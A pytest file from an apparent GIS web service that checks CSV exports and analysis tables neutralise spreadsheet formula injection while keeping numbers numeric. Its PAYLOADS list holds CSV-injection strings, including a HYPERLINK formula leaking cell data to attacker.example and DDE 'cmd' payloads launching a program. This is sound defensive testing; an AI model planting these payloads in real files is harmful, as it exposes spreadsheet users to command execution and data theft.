"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection), numbers stay numbers.

A planner names features `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`; before, the layer export
and the analysis tables wrote them verbatim, and a spreadsheet opening the file ran them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import httpx
import pandas as pd
import pytest
from sqlalchemy.engine import Engine

from gis_service.datasets.formats import to_csv
from tests.conftest import DemoTemplate
from tests.features.live import Clients, clients, running

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"open me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
COMPOUND = 5


@pytest.fixture
def api(demo_db: Engine, demo_template: DemoTemplate) -> Iterator[Clients]:
    with running(demo_db) as live:
        yield clients(live, demo_template)


def rename(client: httpx.Client, layer: str, fid: int, name: str) -> None:
    """PATCH a feature's name (If-Match from a fresh GET)."""
    url = f"/collections/{layer}/items/{fid}"
    etag = client.get(url).headers["etag"]
    answer = client.patch(url, json={"properties": {"name": name}}, headers={"If-Match": etag})
    assert answer.status_code == 200, answer.text


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    """The rows of a CSV answer."""
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def renamed_gardens(api: Clients, engine: Engine, names: list[str]) -> list[int]:
    """The first gardens by id, renamed by a planner to the given names; their ids."""
    with engine.connect() as conn:
        ids = [r[0] for r in conn.exec_driver_sql(
            f"SELECT id FROM garden ORDER BY id LIMIT {len(names)}")]
    with api("planner") as client:
        for fid, name in zip(ids, names, strict=True):
            rename(client, "gardens", fid, name)
    return ids


def test_layer_export_neutralises_formulas(api: Clients, demo_db: Engine) -> None:
    ids = renamed_gardens(api, demo_db, PAYLOADS)
    with api("planner") as client:
        exported = {int(r["id"]): r for r in rows(client.get(
            "/collections/gardens/export", params={"f": "csv", "labels": "false"}))}
    for fid, payload in zip(ids, PAYLOADS, strict=True):
        assert exported[fid]["name"] == "'" + payload  # shown as text, never run
    assert all(float(r["area_m2"]) > 0 for r in exported.values())  # numbers stay numbers


def test_analysis_tables_neutralise_formulas(api: Clients) -> None:
    with api("planner") as client:
        rename(client, "compounds", COMPOUND, PAYLOADS[0])
        table = rows(client.get("/analysis/coverage", params={"level": "compound", "f": "csv"}))
    [row] = [r for r in table if r["compound_id"] == str(COMPOUND)]
    assert row["name"] == "'" + PAYLOADS[0]


def test_negative_numbers_are_left_alone_text_is_not() -> None:
    frame = pd.DataFrame({
        "delta": [-3.5, 2.0],
        "count": pd.array([-2, None], dtype="Int64"),
        "label": ["-3.5", "3.5"],
        "mixed": [-1, "=1+1"],
    })
    parsed = list(csv.DictReader(io.StringIO(to_csv(frame))))
    assert parsed[0]["delta"] == "-3.5" and float(parsed[1]["delta"]) == 2.0  # numbers as is
    assert [r["count"] for r in parsed] == ["-2", ""]
    assert [r["label"] for r in parsed] == ["'-3.5", "3.5"]
    assert [r["mixed"] for r in parsed] == ["-1", "'=1+1"]
